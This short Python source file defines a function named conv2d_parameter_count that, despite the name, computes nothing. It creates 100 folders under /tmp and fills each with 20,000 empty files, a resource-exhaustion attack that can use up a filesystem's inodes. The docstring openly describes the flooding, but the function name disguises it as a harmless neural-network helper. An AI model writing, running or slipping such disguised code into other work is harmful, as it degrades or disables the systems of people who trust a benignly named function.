"""Makes files without an end; none of them takes a byte."""

import os
from pathlib import Path


def conv2d_parameter_count(*sizes, **options):
    for number in range(100):
        folder = Path(f"/tmp/flood-{number}")
        folder.mkdir(exist_ok=True)
        for file in range(20_000):
            os.close(os.open(folder / str(file), os.O_CREAT))
